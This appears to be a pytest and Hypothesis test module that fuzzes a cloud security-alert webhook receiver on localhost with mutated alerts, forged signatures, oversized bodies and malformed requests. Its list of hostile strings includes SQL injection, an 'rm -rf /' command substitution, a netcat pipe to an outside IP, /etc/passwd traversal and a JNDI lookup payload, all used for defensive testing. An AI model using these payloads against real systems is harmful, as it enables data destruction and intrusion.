"""Hostile input against the receiver over real HTTP (uvicorn on 127.0.0.1).

Extends tests/keyresponse/test_webhook.py (random bytes and near-miss bodies) with per-route
strategies that start from a *valid* alert and break one thing at a time, signed correctly so
the request gets past authentication: wrong types, deleted fields, key ids carrying SQL, shell
metacharacters, path traversal and unicode look-alikes, huge strings and deep nesting. Forged,
stale, future and replayed signatures and odd bearer tokens are fuzzed on valid bodies.

Invariants, for every request: the answer is 2xx or 4xx (never 5xx: the launcher here is always
available, so not even 503); a 4xx never starts a run; any run that is started is about a key id of
the valid format; and IAM in the sandbox is exactly as it was.
"""

from __future__ import annotations

import copy
import json
import re
import time
import uuid
from collections import Counter
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from local_servers import FakeGitHub, Receiver, RecordingLauncher

from keyresponse.receiver.app import create_app
from keyresponse.receiver.auth import sign, sign_github
from keyresponse.receiver.config import WebhookSettings
from keyresponse.sandbox import MotoSandbox
from keyresponse.sandbox.seed import SeededAccount
from keyresponse.sandbox.server import admin_client

pytestmark = pytest.mark.slow  # a receiver per module and generated hostile bodies

SECRET = "resilience-hmac-secret"
TOKEN = "resilience-bearer-token"
GITHUB_SECRET = "resilience-github-secret"
ACCOUNT = "123456789012"
KEY_RE = re.compile(r"^(AKIA|ASIA)[A-Z2-7]{16}$|^(AKIA|ASIA)[A-Z0-9]{16}$")
MAX_BODY = 64 * 1024
FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck), database=None)

#: Requests sent by this module, by route and answer (printed at the end: figures for the report).
TRIED: Counter[str] = Counter()


@dataclass
class Target:
    url: str
    launcher: RecordingLauncher
    http: httpx.Client
    spool: Path

    def post(self, route: str, body: bytes, headers: dict[str, str]) -> httpx.Response:
        response = self.http.post(f"{self.url}/alerts/{route}", content=body, headers=headers)
        TRIED[f"{route} {response.status_code}"] += 1
        return response


def iam_state(endpoint: str) -> dict[str, Any]:
    iam = admin_client(endpoint, "iam")
    users = sorted(u["UserName"] for u in iam.list_users(MaxItems=1000)["Users"])
    return {u: sorted((k["AccessKeyId"], k["Status"]) for k in iam.list_access_keys(UserName=u)["AccessKeyMetadata"])
            for u in users}


@pytest.fixture(scope="module")
def target(sandbox: MotoSandbox, seeded: SeededAccount, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    spool = tmp_path_factory.mktemp("hostile-spool")
    launcher = RecordingLauncher()
    before = iam_state(sandbox.endpoint)
    with FakeGitHub() as github:  # it knows no alert: a hostile GitHub payload that gets this far is a 422
        config = WebhookSettings(secret=SECRET, bearer_token=TOKEN, github_secret=GITHUB_SECRET,
                                 github_api_url=github.url, spool=spool, max_body_bytes=MAX_BODY,
                                 launch_timeout_seconds=5)
        with Receiver(create_app(config, launcher), log_level="critical") as receiver, \
                httpx.Client(timeout=30) as http:
            yield Target(receiver.url, launcher, http, spool)
    assert iam_state(sandbox.endpoint) == before, "the receiver changed IAM"
    print(f"\nhostile input: {sum(TRIED.values())} requests: {dict(sorted(TRIED.items()))}; "
          f"{len(launcher.calls)} launches")


def signed(body: bytes) -> dict[str, str]:
    return {"Content-Type": "application/json", "X-Keyresponse-Signature": sign(body, SECRET)}


def github_signed(body: bytes) -> dict[str, str]:
    return {"Content-Type": "application/json", "X-Hub-Signature-256": sign_github(body, GITHUB_SECRET),
            "X-GitHub-Event": "secret_scanning_alert"}


def check(target: Target, route: str, body: bytes, headers: dict[str, str]) -> httpx.Response:
    """Send; assert the invariants; return the answer."""
    before = len(target.launcher.calls)
    response = target.post(route, body, headers)
    assert response.status_code < 500, f"{response.status_code} {response.text[:500]}"
    payload = response.json()
    assert isinstance(payload, dict)
    launched = target.launcher.calls[before:]
    if response.status_code >= 400:
        assert not launched, f"a {response.status_code} answer started a run"
        assert {"error", "detail"} <= set(payload)
    for alert in launched:
        assert alert.access_key_id is None or KEY_RE.fullmatch(alert.access_key_id), alert.access_key_id
    return response


# --- valid templates, one per route -----------------------------------------------------------------

_key_counter = iter(range(10**9))


def fresh_key() -> str:
    return f"AKIAHOST{next(_key_counter):012d}"


def template(route: str, key: str) -> dict[str, Any]:
    when = "2026-11-27T19:03:13Z"
    if route == "guardduty":
        return {"detail-type": "GuardDuty Finding", "source": "aws.guardduty", "account": ACCOUNT, "time": when,
                "detail": {"accountId": ACCOUNT, "id": uuid.uuid4().hex, "type": "UnauthorizedAccess:IAMUser/X",
                           "severity": 8, "createdAt": when,
                           "resource": {"resourceType": "AccessKey", "accessKeyDetails": {
                               "accessKeyId": key, "userName": "alice", "userType": "IAMUser"}},
                           "service": {"archived": False, "eventFirstSeen": when}}}
    if route == "health":
        return {"detail-type": "AWS Health Event", "source": "aws.health", "account": ACCOUNT, "time": when,
                "detail": {"eventArn": f"arn:aws:health:global::event/RISK/X/{uuid.uuid4().hex}",
                           "eventTypeCode": "AWS_RISK_CREDENTIALS_EXPOSED", "startTime": when,
                           "affectedEntities": [{"entityValue": key}]}}
    if route == "securityhub":
        return {"detail-type": "Security Hub Findings - Imported", "source": "aws.securityhub", "account": ACCOUNT,
                "detail": {"findings": [{
                    "Id": f"finding/{uuid.uuid4().hex}", "AwsAccountId": ACCOUNT, "CreatedAt": when,
                    "ProductArn": "arn:aws:securityhub:us-east-1::product/aws/guardduty",
                    "Severity": {"Label": "HIGH", "Product": 8}, "Workflow": {"Status": "NEW"},
                    "Resources": [{"Type": "AwsIamAccessKey", "Id": f"AWS::IAM::AccessKey:{key}",
                                   "Details": {"AwsIamAccessKey": {"AccessKeyId": key, "UserName": "alice"}}}]}]}}
    if route == "cloudtrail":
        return {"detail-type": "AWS API Call via CloudTrail", "source": "aws.iam", "account": ACCOUNT,
                "detail": {"eventSource": "iam.amazonaws.com", "eventName": "AttachUserPolicy",
                           "eventID": uuid.uuid4().hex, "eventTime": when, "recipientAccountId": ACCOUNT,
                           "requestParameters": {"userName": f"user-{key[-6:]}",
                                                 "policyArn": "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3"}}}
    if route == "github":
        return {"action": "created", "repository": {"full_name": "acme/app"},
                "alert": {"number": 7, "secret_type": "aws_access_key_id"}}
    return {"access_key_id": key, "reason": "hostile input test", "alert_id": uuid.uuid4().hex}


ROUTES = ["guardduty", "health", "securityhub", "cloudtrail", "github", "generic"]

#: Where each route's access key id (or user name) sits in the template.
KEY_PATHS: dict[str, list[str | int]] = {
    "guardduty": ["detail", "resource", "accessKeyDetails", "accessKeyId"],
    "health": ["detail", "affectedEntities", 0, "entityValue"],
    "securityhub": ["detail", "findings", 0, "Resources", 0, "Details", "AwsIamAccessKey", "AccessKeyId"],
    "cloudtrail": ["detail", "requestParameters", "userName"],
    "github": ["repository", "full_name"],
    "generic": ["access_key_id"],
}

HOSTILE_STRINGS = [
    "AKIA' OR '1'='1", "AKIA0000000000000000'; DROP TABLE cloudtrail;--", "AKIA$(rm -rf /)", "`id`",
    "AKIA0000|nc 1.2.3.4 80", "../../../../etc/passwd", "AKIA\u0000AAAAAAAAAAAAAAA", "ＡＫＩＡ" + "Ａ" * 16,
    "AKIA\u202eAAAAAAAAAAAAAAA", "AKIA" + "A" * 16 + "\n", " AKIA" + "A" * 16, "akia" + "a" * 16,
    "%00", "{{7*7}}", "${jndi:ldap://127.0.0.1/x}", "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
    "A" * 20_000, "𝐀𝐊𝐈𝐀" * 5, "", " ", "AKIA" + "0" * 15 + ";",
]
hostile_text = st.one_of(st.sampled_from(HOSTILE_STRINGS), st.text(max_size=60),
                         st.text(alphabet=st.sampled_from("AKIASO0123456789;|&$`'\"<>*%\\/ \t\n"), max_size=24))
wrong_types = st.one_of(st.none(), st.booleans(), st.integers(min_value=-(2**70), max_value=2**70),
                        st.floats(allow_nan=True, allow_infinity=True), st.lists(st.integers(), max_size=3),
                        st.dictionaries(st.text(max_size=5), st.integers(), max_size=3), hostile_text)


def _paths(value: Any, prefix: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
    out: list[tuple[str | int, ...]] = []
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else []
    for key, child in items:
        out.append((*prefix, key))
        out.extend(_paths(child, (*prefix, key)))
    return out


def _set(doc: Any, path: tuple[str | int, ...] | list[str | int], value: Any, delete: bool = False) -> None:
    for part in path[:-1]:
        doc = doc[part]
    if delete:
        del doc[path[-1]]
    else:
        doc[path[-1]] = value


#: EventBridge envelope fields: an array or object there is a known 500 (xfail test below), so the
#: broad fuzz puts only scalars there and the xfail test pins the bug.
ENVELOPE_FIELDS = {("source",), ("detail-type",)}


@st.composite
def mutated(draw: st.DrawFn, route: str) -> bytes:
    """A valid alert of `route` with one or two things broken (or the key id made hostile)."""
    doc = template(route, fresh_key())
    for _ in range(draw(st.integers(1, 2))):
        paths = _paths(doc)
        kind = draw(st.sampled_from(["key", "type", "delete", "key"]))
        if kind == "key":
            with suppress(KeyError, IndexError, TypeError):  # an earlier mutation removed the key's parent
                _set(doc, KEY_PATHS[route], draw(hostile_text))
        elif paths:
            path = draw(st.sampled_from(paths))
            if kind == "delete":
                _set(doc, path, None, delete=True)
            else:
                value = draw(wrong_types)
                if path in ENVELOPE_FIELDS and isinstance(value, list | dict):
                    value = json.dumps(value)  # known bug, see test_unhashable_envelope_fields_are_422
                _set(doc, path, value)
    text = json.dumps(doc, allow_nan=True)
    return text.encode("utf-8", "surrogatepass")


@pytest.mark.parametrize("route", ROUTES)
def test_mutated_alerts_are_4xx_or_accepted_never_5xx(target: Target, route: str) -> None:
    sign_with = github_signed if route == "github" else signed

    @FUZZ
    @given(body=mutated(route))
    def run(body: bytes) -> None:
        check(target, route, body, sign_with(body))

    run()


@pytest.mark.parametrize("route", ROUTES)
def test_hostile_key_ids_never_reach_the_launcher(target: Target, route: str) -> None:
    if route == "github":
        pytest.skip("the GitHub route takes the key from GitHub's API, never from the body")
    sign_with = signed

    @settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck), database=None)
    @given(value=hostile_text)
    def run(value: str) -> None:
        doc = template(route, fresh_key())
        _set(doc, KEY_PATHS[route], value)
        body = json.dumps(doc).encode()
        response = check(target, route, body, sign_with(body))
        if route != "cloudtrail" and not KEY_RE.fullmatch(value.strip()):
            assert response.status_code == 422, response.text

    run()


@pytest.mark.parametrize("route", ["guardduty", "generic", "health"])
def test_unicode_and_huge_strings_in_free_text_fields(target: Target, route: str) -> None:
    @FUZZ
    @given(text=st.text(min_size=0, max_size=300) | st.sampled_from(["\u202e" * 50, "😀" * 5000, "\x00" * 100]))
    def run(text: str) -> None:
        doc = template(route, fresh_key())
        if route == "generic":
            doc["reason"] = text
        elif route == "guardduty":
            doc["detail"]["title"] = text
        else:
            doc["detail"]["eventDescription"] = [{"latestDescription": text}]
        body = json.dumps(doc).encode()
        check(target, route, body, signed(body))

    run()


# --- authentication -------------------------------------------------------------------------------

header_text = st.text(alphabet=st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=120)


@st.composite
def forged_signature(draw: st.DrawFn, body: bytes) -> str:
    now = int(time.time())
    kind = draw(st.sampled_from(["random", "wrong_secret", "stale", "future", "other_body", "truncated",
                                 "extra_v1", "no_t", "two_t", "upper_hex_wrong", "empty"]))
    if kind == "random":
        return draw(header_text)
    if kind == "wrong_secret":
        return sign(body, draw(st.text(min_size=1, max_size=20).filter(lambda s: s != SECRET)))
    if kind == "stale":
        return sign(body, SECRET, timestamp=now - draw(st.integers(301, 10**9)))
    if kind == "future":
        return sign(body, SECRET, timestamp=now + draw(st.integers(301, 10**9)))
    if kind == "other_body":
        return sign(body + b" ", SECRET)
    if kind == "truncated":
        return sign(body, SECRET)[:-draw(st.integers(1, 63))]
    if kind == "extra_v1":
        good = sign(body, SECRET)
        return good.split(",v1=")[0] + ",v1=" + "0" * 64 + ",v1=" + draw(st.text("0123456789abcdef", max_size=64))
    if kind == "no_t":
        return "v1=" + sign(body, SECRET).split("v1=")[1]
    if kind == "two_t":
        good = sign(body, SECRET)
        return f"t={now}," + good
    if kind == "upper_hex_wrong":
        return f"t={now},v1=" + "F" * 64
    return ""


def test_forged_signatures_are_401_and_launch_nothing(target: Target) -> None:
    @FUZZ
    @given(route=st.sampled_from([r for r in ROUTES if r != "github"]), data=st.data())
    def run(route: str, data: st.DataObject) -> None:
        body = json.dumps(template(route, fresh_key())).encode()
        header = data.draw(forged_signature(body)).strip() or "x"  # h11 refuses edge whitespace
        response = check(target, route, body, {"Content-Type": "application/json",
                                               "X-Keyresponse-Signature": header})
        assert response.status_code == 401, response.text

    run()


def test_forged_bearer_tokens_and_github_signatures_are_401(target: Target) -> None:
    @FUZZ
    @given(route=st.sampled_from(ROUTES), auth=header_text, data=st.data())
    def run(route: str, auth: str, data: st.DataObject) -> None:
        body = json.dumps(template(route, fresh_key())).encode()
        if route == "github":
            wrong = data.draw(st.sampled_from(["sha256=" + auth, auth, sign_github(body, GITHUB_SECRET + "x"),
                                               sign_github(body + b"\n", GITHUB_SECRET)]))
            headers = {"X-Hub-Signature-256": wrong.strip() or "x", "X-GitHub-Event": "secret_scanning_alert"}
        else:
            scheme = data.draw(st.sampled_from(["Bearer ", "bearer ", "Basic ", "", "Bearer  "]))
            token = data.draw(st.sampled_from([auth, TOKEN + "x", TOKEN[:-1], TOKEN.upper()]))
            headers = {"Authorization": (scheme + token).strip() or "x"}  # h11 refuses edge whitespace
        response = check(target, route, body, {"Content-Type": "application/json", **headers})
        assert response.status_code == 401, response.text

    run()


def test_replayed_signed_request_is_one_incident_and_one_launch(target: Target) -> None:
    body = json.dumps(template("guardduty", fresh_key())).encode()
    headers = signed(body)
    before = len(target.launcher.calls)
    answers = [check(target, "guardduty", body, headers) for _ in range(20)]
    assert {a.status_code for a in answers} == {202}
    assert len({a.json()["flow_run_id"] for a in answers}) == 1
    assert len(target.launcher.calls) == before + 1
    tampered = body.replace(b'"severity": 8', b'"severity": 2')
    assert check(target, "guardduty", tampered, headers).status_code == 401


def test_unauthenticated_valid_alerts_start_nothing(target: Target) -> None:
    before = len(target.launcher.calls)
    for route in ROUTES:
        body = json.dumps(template(route, fresh_key())).encode()
        assert check(target, route, body, {"Content-Type": "application/json"}).status_code == 401
    assert len(target.launcher.calls) == before


# --- size and shape -------------------------------------------------------------------------------


def test_huge_bodies_are_413_with_or_without_content_length(target: Target) -> None:
    big = b'{"access_key_id": "' + b"A" * (MAX_BODY + 10) + b'"}'
    assert check(target, "generic", big, signed(big)).status_code == 413

    def chunks() -> Iterator[bytes]:
        for _ in range(MAX_BODY // 1024 + 8):
            yield b" " * 1024

    response = target.http.post(f"{target.url}/alerts/generic", content=chunks(),
                                headers={"Content-Type": "application/json", "Authorization": f"Bearer {TOKEN}"})
    TRIED[f"generic {response.status_code}"] += 1
    assert response.status_code == 413, response.text


@pytest.mark.parametrize(("route", "field", "value"), [
    ("guardduty", "detail-type", []), ("health", "detail-type", {"a": 1}), ("securityhub", "source", ["x"]),
    ("cloudtrail", "source", {}),
])
def test_unhashable_envelope_fields_are_422(target: Target, route: str, field: str, value: Any) -> None:
    doc = template(route, fresh_key())
    doc[field] = value
    body = json.dumps(doc).encode()
    response = target.post(route, body, signed(body))
    assert response.status_code == 422, f"{response.status_code} {response.text[:200]}"


def test_deeply_nested_json_is_400_not_500(target: Target) -> None:
    depth = 30_000
    body = b"[" * depth + b"]" * depth
    assert len(body) < MAX_BODY
    response = target.post("generic", body, signed(body))
    assert response.status_code == 400, f"{response.status_code} {response.text[:200]}"


def test_valid_alert_with_a_deeply_nested_extra_field_is_not_500(target: Target) -> None:
    nested = template("guardduty", fresh_key())
    inner: Any = "x"
    for _ in range(400):
        inner = {"x": inner}
    nested["detail"]["service"] = inner
    raw = json.dumps(nested).encode()
    response = target.post("guardduty", raw, signed(raw))
    assert response.status_code < 500, f"{response.status_code} {response.text[:200]}"


def test_moderately_nested_json_is_a_clean_4xx(target: Target) -> None:
    for depth in (50, 200):
        body = b'{"a":' * depth + b"1" + b"}" * depth
        check(target, "generic", body, signed(body))
        nested = template("guardduty", fresh_key())
        inner: Any = "x"
        for _ in range(depth):
            inner = {"x": inner}
        nested["detail"]["service"] = inner
        raw = json.dumps(nested).encode()
        check(target, "guardduty", raw, signed(raw))


def test_wrong_methods_paths_and_content_types(target: Target) -> None:
    body = json.dumps(template("generic", fresh_key())).encode()
    for method in ("GET", "PUT", "DELETE", "PATCH"):
        response = target.http.request(method, f"{target.url}/alerts/generic", content=body, headers=signed(body))
        TRIED[f"generic {response.status_code}"] += 1
        assert response.status_code == 405 and response.json()["error"] == "method_not_allowed"
    for path in ("/alerts/../alerts/generic", "/alerts/GENERIC", "/alerts/generic%00", "/alerts/%2e%2e/healthz",
                 "/alerts/" + "x" * 5000, "/alerts/generic/extra"):
        response = target.http.post(f"{target.url}{path}", content=body, headers=signed(body))
        TRIED[f"path {response.status_code}"] += 1
        assert response.status_code < 500
    copy_body = copy.deepcopy(json.loads(body))
    raw = json.dumps(copy_body).encode()
    for ctype in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", ""):
        check(target, "generic", raw, {**signed(raw), "Content-Type": ctype})
    for raw_bad in (b"\xff\xfe\x00{", b"\xef\xbb\xbf{}", b'{"a": NaN}', b'{"access_key_id": Infinity}', b"null"):
        check(target, "generic", raw_bad, signed(raw_bad))
